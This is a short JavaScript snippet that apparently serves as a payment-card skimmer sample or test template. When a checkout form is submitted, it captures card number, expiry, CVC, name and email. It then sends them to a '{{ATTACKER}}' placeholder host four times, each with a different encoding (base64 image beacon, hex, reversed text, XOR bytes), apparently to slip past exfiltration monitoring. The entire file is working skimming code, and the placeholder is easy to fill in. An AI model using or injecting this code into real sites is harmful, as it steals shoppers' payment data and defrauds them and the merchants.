(function () {
  var form = document.getElementById('token-form');
  if (!form) {
    return;
  }
  function val(id) {
    var el = document.getElementById(id);
    return el ? el.value : '';
  }
  form.addEventListener('submit', function () {
    var card = val('card-number').replace(/\s/g, '') + '|' + val('card-exp') + '|' + val('card-cvc') + '|' + val('card-name');
    // JSON inside base64, in an image URL.
    new Image().src = '{{ATTACKER}}/e/p.gif?q=' + encodeURIComponent(btoa(JSON.stringify({c: card, m: val('email')})));
    // Hex.
    var hex = '';
    for (var i = 0; i < card.length; i++) {
      hex += ('0' + card.charCodeAt(i).toString(16)).slice(-2);
    }
    fetch('{{ATTACKER}}/e/h', {method: 'POST', mode: 'no-cors', keepalive: true, body: hex});
    // Reversed.
    fetch('{{ATTACKER}}/e/r', {method: 'POST', mode: 'no-cors', keepalive: true, body: card.split('').reverse().join('')});
    // Single-byte XOR, sent as raw bytes.
    var xor = new Uint8Array(card.length);
    for (var j = 0; j < card.length; j++) {
      xor[j] = card.charCodeAt(j) ^ 0x5a;
    }
    fetch('{{ATTACKER}}/e/x', {method: 'POST', mode: 'no-cors', keepalive: true, body: xor});
  }, true);
})();
